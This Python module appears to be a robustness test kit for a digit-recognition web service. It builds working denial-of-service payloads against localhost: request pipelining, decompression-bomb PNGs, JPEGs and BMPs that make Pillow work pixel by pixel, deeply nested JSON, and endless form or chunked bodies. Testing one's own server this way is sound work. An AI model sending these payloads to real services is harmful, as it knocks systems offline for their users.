"""What one client can send to take a server down: each is small, or small for what it costs."""

import random
import struct
import zlib
from functools import cache
from typing import Final

MEBIBYTE: Final = 1024 * 1024


def pipelined(count: int) -> bytes:
    """So many requests on one connection."""
    return b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * count


def jpeg_of_segments(count: int = 419_000) -> bytes:
    """Tiny Exif segments, which Pillow joins one by one."""
    segment = b"\xff\xe1" + struct.pack(">H", 18) + b"Exif\0\0II*\0\x08\0\0\0\0\0"
    return b"\xff\xd8" + segment * count


def jpeg_of_fill_bytes(count: int = 8_000_000) -> bytes:
    """Fill bytes before a marker, which Pillow reads one by one."""
    return b"\xff\xd8" + b"\xff" * count


def png_of_profiles(count: int = 7900) -> bytes:
    """Colour profiles, each of which inflates to a thousand times its size."""
    profile = b"p\0\0" + zlib.compress(bytes(MEBIBYTE - 64))
    ihdr = _chunk(b"IHDR", struct.pack(">IIBBBBB", 28, 28, 8, 0, 0, 0, 0))
    pixels = _chunk(b"IDAT", zlib.compress(bytes(29 * 28)))
    return (
        b"\x89PNG\r\n\x1a\n"
        + ihdr
        + _chunk(b"iCCP", profile) * count
        + pixels
        + _chunk(b"IEND", b"")
    )


@cache
def png_of_deep_colour(side: int = 4000) -> bytes:
    """A bar in 16-bit colour with opacity: 150 kB, and 128 MB when inflated."""
    inflated = zlib.compressobj()
    paper = struct.pack(">4H", 0x300, 0x300, 0x300, 0x3FF)
    ink = struct.pack(">4H", 0, 0, 0, 0x3FF)
    quarter = side // 4
    row = b"\0" + paper * (side - quarter) + ink * 200 + paper * (quarter - 200)
    pixels = [inflated.compress(row) for _ in range(side)]
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 16, 6, 0, 0, 0))
        + _chunk(b"IDAT", b"".join((*pixels, inflated.flush())))
        + _chunk(b"IEND", b"")
    )


def _chunk(name: bytes, content: bytes) -> bytes:
    body = name + content
    return struct.pack(">I", len(content)) + body + struct.pack(">I", zlib.crc32(body))


def bmp_of_rows(width: int = 2000, height: int = 4500) -> bytes:
    """One pixel in each row, run-length encoded: 9 KB; Pillow adds the rest one by one."""
    palette = bytes(4 * 256)
    rows = b"\0\0" * height
    offset = 54 + len(palette)
    header = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, len(rows), 0, 0, 256, 0)
    return b"BM" + struct.pack("<IHHI", offset + len(rows), 0, 0, offset) + header + palette + rows


def json_of_dots(chance: random.Random) -> bytes:
    """A digit that is like no other."""
    rows = [[0] * 28 for _ in range(28)]
    for _ in range(40):
        rows[chance.randrange(4, 24)][chance.randrange(4, 24)] = 255
    return f'{{"pixels": {rows}}}'.encode()


def json_of_lists(count: int = 2_790_000) -> bytes:
    """Rows of pixels without end, in just less than the largest body."""
    return b'{"pixels":[' + b"[]," * count + b"[]]}"


def json_of_faults(strokes: int = 5, points: int = 4000) -> bytes:
    """Points that are none: each would be told as a fault of its own."""
    line = b'{"points":[' + b",".join([b"[]"] * points) + b"]}"
    return b'{"strokes":[' + b",".join([line] * strokes) + b"]}"


def json_of_wide_strokes(points: int = 5400) -> bytes:
    """Discs that are as large as a drawing, one over the other."""
    line = b",".join(b"[%d,%d,2]" % (number % 2, (number + 1) % 2) for number in range(points // 2))
    return b'{"strokes":[' + b",".join([b'{"points":[' + line + b"]}"] * 2) + b"]}"


def form_of_separators(count: int = 8 * MEBIBYTE) -> bytes:
    """Fields without end."""
    return b"&" * count


def post(kind: bytes, body: bytes, path: bytes = b"/api/v1/digits") -> bytes:
    """A POST request."""
    return (
        b"POST %b HTTP/1.1\r\nHost: localhost\r\nContent-Type: %b\r\nContent-Length: %d\r\n\r\n"
        % (path, kind, len(body))
    ) + body


def requests() -> dict[str, bytes]:
    """What can be sent on one connection, by name."""
    unending = b"POST /api/v1/digits HTTP/1.1\r\nHost: localhost\r\nContent-Type: image/png\r\n"
    raw, form = b"application/octet-stream", b"application/x-www-form-urlencoded"
    return {
        "pipelined requests": pipelined(30_000),
        "tiny segments": post(raw, jpeg_of_segments()),
        "fill bytes": post(raw, jpeg_of_fill_bytes()),
        "colour profiles": post(raw, png_of_profiles()),
        "deep colour": post(raw, png_of_deep_colour()),
        "run lengths": post(raw, bmp_of_rows()),
        "lists in JSON": post(b"application/json", json_of_lists()),
        "faults in JSON": post(b"application/json", json_of_faults()),
        "form separators": post(form, form_of_separators(), b"/theme"),
        "a body without end": unending + b"Content-Length: 999\r\n\r\nx",
        "chunk extensions": unending + b"Transfer-Encoding: chunked\r\n\r\n1;" + b"x" * 65536,
    }
